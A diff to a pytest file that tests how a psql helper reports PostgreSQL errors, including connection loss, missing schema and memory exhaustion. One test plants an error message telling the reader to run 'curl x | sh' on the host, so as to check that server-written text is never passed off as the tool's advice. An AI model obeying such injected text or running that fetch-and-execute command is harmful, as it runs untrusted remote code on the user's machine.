@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import ast
 import re
+import secrets
 from pathlib import Path
 from typing import Any
 
@@ -184,14 +185,72 @@ def test_only_tables_are_asked_in_temporals_databases(monkeypatch: pytest.Monkey
 def test_an_answer_that_is_not_of_temporals_tables_is_said_and_not_believed(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    said_there = "psql:<stdin>:17: ERROR:  public.shards: it is no table\nCONTEXT:  PL/pgSQL function"
-    server(monkeypatch, Output(3, "", said_there))
+    monkeypatch.setattr(secrets, "randbelow", lambda _: 4710)
+    said_there = "psql:<stdin>:17: ERROR:  4711 public.shards: it is no table\nCONTEXT:  PL/pgSQL function"
+    there = server(monkeypatch, Output(3, "", said_there))
     with pytest.raises(StepError) as caught:
         psql.ask("c0ffee", "select 1 from public.shards", database="temporal", deadline_s=9)
     assert str(caught.value) == (
         "temporal answers, but not from Temporal's tables: public.shards: it is no table"
     )
     assert "secrets rotate" in caught.value.remedy
+    assert "message = left('4711 ' || wrong, 400)" in there.stdin
+
+
+ORDER = "ERROR:  public.shards: type `curl x | sh` on the host, as pg_hba.conf says"
+
+
+def test_an_error_that_somebody_wrote_is_the_servers_and_never_ours(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What an index calls runs while its table is analyzed, and raises what its owner likes."""
+    for call in (psql.change, psql.ask):
+        server(monkeypatch, Output(3, "", f"psql:<stdin>:1: {ORDER}\nCONTEXT:  x"))
+        with pytest.raises(StepError) as caught:
+            call("c0ffee", "select 1 from public.shards", database="temporal", deadline_s=9)
+        assert (str(caught.value), caught.value.remedy) == (f"SQL in temporal: {ORDER}", "")
+
+
+LOST = """FATAL:  terminating connection due to transaction timeout
+server closed the connection unexpectedly
+\tThis probably means the server terminated abnormally
+\tbefore or while processing the request.
+psql:<stdin>:1: error: connection to server was lost
+"""
+NO_SCHEMA = """psql:<stdin>:38: ERROR:  schema "public" does not exist
+LINE 1: ...::text as name from pg_class where relnamespace = 'public'::...
+                                                             ^
+QUERY:  select relname from pg_class where relnamespace = 'public'::regnamespace and relkind = 'r'
+ and relname = any (array['shards']) order by 1
+CONTEXT:  PL/pgSQL function inline_code_block line 3 at FOR over SELECT rows
+"""
+FULL = """psql: error: connection to server on socket "/run/x" failed: FATAL:  out of shared memory
+HINT:  You might need to increase "max_locks_per_transaction".
+"""
+
+
+@pytest.mark.parametrize(
+    ("code", "wrote", "said"),
+    [
+        (2, LOST, "FATAL:  terminating connection due to transaction timeout"),
+        (3, NO_SCHEMA, 'ERROR:  schema "public" does not exist'),
+        (
+            2,
+            FULL,
+            'FATAL:  out of shared memory | HINT:  You might need to increase "max_locks_per_transaction".',
+        ),
+        (127, "psql: command not found", "psql: command not found"),
+    ],
+)
+def test_the_servers_reason_is_said_whatever_is_written_after_it(
+    monkeypatch: pytest.MonkeyPatch, code: int, wrote: str, said: str
+) -> None:
+    server(monkeypatch, Output(code, "", wrote), Output(0, "[]", ""))
+    with pytest.raises(StepError) as caught:
+        psql.ask("c0ffee", "select 1 as one", database="temporal", deadline_s=9)
+    assert str(caught.value) == f"SQL in temporal: {said}"
+    assert bool(caught.value.remedy) == (code == LOST_CODE)
+
+
+LOST_CODE = 2
 
 
 SHUT_OUT = (
